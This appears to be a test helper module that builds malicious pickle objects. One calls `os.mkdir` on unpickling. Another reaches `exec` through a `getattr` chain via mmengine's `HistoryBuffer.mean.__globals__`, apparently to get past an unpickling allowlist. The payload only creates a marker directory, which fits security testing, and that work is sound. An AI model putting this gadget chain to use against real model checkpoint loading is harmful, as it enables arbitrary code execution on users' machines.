"""Objects whose unpickling runs a program."""

import os

from mmengine.logging import HistoryBuffer


class Call:
    """Object whose unpickling calls something, perhaps the result of another call."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __call__(self):
        pass

    def __reduce__(self):
        return self.function, self.args


def plain_program(marker):
    """Return what creates the file `marker` when it is unpickled."""
    return Call(os.mkdir, str(marker))


def program_by_getattr(marker):
    """Do the same with names that mmengine's history needs: getattr, and the class HistoryBuffer."""
    scope = Call(getattr, Call(getattr, HistoryBuffer, 'mean'), '__globals__')
    builtins = Call(Call(getattr, scope, '__getitem__'), '__builtins__')
    return Call(Call(Call(getattr, builtins, '__getitem__'), 'exec'), f'import os; os.mkdir({str(marker)!r})')
